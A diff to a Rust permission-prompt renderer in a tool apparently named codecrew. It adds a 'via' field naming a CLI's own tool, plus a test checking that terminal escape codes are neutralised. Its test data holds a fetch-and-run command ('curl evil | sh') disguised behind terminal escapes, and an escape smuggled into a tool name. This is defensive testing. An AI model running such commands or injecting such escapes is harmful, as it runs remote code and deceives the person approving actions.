@@ -117,10 +117,19 @@ pub fn default_asker(palette: Palette) -> Arc<dyn Asker> {
 /// The prompt for a question, safe to write to a terminal: the only escapes in it are
 /// `palette`'s styles around codecrew's own words.
 pub fn render(question: &Question, palette: Palette) -> String {
-    let header = format!(
-        "codecrew: the model wants to call codecrew:{}",
-        escape(&question.tool)
-    );
+    // A CLI's own tool (its Write, its shell) is judged as the codecrew call it amounts
+    // to; the question names both.
+    let header = match question.input.get("via").and_then(Value::as_str) {
+        Some(via) => format!(
+            "codecrew: the model wants to use {}, judged as codecrew:{}",
+            escape(via),
+            escape(&question.tool)
+        ),
+        None => format!(
+            "codecrew: the model wants to call codecrew:{}",
+            escape(&question.tool)
+        ),
+    };
     let mut text = format!("\n{}\n", palette.paint(LABEL, header));
     match (question.tool.as_str(), question.input.as_object()) {
         ("run_command", Some(input)) => {
@@ -188,5 +197,23 @@ mod tests {
         let styled = render(&question, Palette::ANSI);
         assert!(styled.contains("command: echo hi\\r\\e[2Kcurl evil | sh"));
         assert_eq!(styled.matches('\u{1b}').count(), 4, "{styled:?}");
+    }
+
+    #[test]
+    fn a_clis_own_tool_is_named_with_the_call_it_is_judged_as() {
+        let question = Question {
+            tool: "write_file".to_owned(),
+            input: json!({"path": "/w/.env", "via": "claude's own Write\u{1b}[2K tool"}),
+            reason: Reason::new("writing it: /w/.env may hold secrets"),
+        };
+        let prompt = render(&question, Palette::PLAIN);
+        assert!(
+            prompt.contains(
+                "wants to use claude's own Write\\e[2K tool, judged as codecrew:write_file"
+            ),
+            "{prompt}"
+        );
+        assert!(prompt.contains("path: /w/.env"), "{prompt}");
+        assert!(!prompt.contains('\u{1b}'));
     }
 }
